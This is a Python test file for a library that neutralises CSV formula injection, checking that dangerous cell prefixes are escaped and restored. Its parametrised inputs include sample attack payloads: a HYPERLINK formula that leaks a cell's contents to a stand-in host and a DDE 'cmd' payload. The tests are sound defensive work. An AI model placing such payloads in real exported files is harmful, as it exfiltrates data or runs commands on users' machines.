"""CSV cells a spreadsheet would run as formulas are written as text, and read back as they
were (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from libs.platform.spreadsheets import neutralise, restore, writer


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"open")', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1"),
        ("-2+3", "'-2"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t"),
        ("\r=1+1", "'\r"),
        ("'=1+1", "''="),
        ("''-1", "'''-1"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str, written: str) -> None:
    out = io.StringIO()
    writer(out).writerow(["name", value])
    [cells] = list(csv.reader(io.StringIO(out.getvalue())))
    assert cells[1].startswith(written)
    assert restore(cells[1]) == value


@pytest.mark.parametrize("value", ["plain", "", "3.5", "'quoted'", "a=b", " =x", "'", "''x"])
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def test_values_are_written_as_csv_writes_them() -> None:
    assert [neutralise(v) for v in (None, 3, 2.5, True, "-1")] == ["", "3", "2.5", "True", "'-1"]


def test_finite_numbers_stay_numbers_a_spreadsheet_can_sort_and_sum() -> None:
    values = (-1, -0.75, -1e20, Decimal("-2.50"), float("-inf"), float("nan"))
    assert [neutralise(v) for v in values] == ["-1", "-0.75", "-1e+20", "-2.50", "'-inf", "nan"]


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))
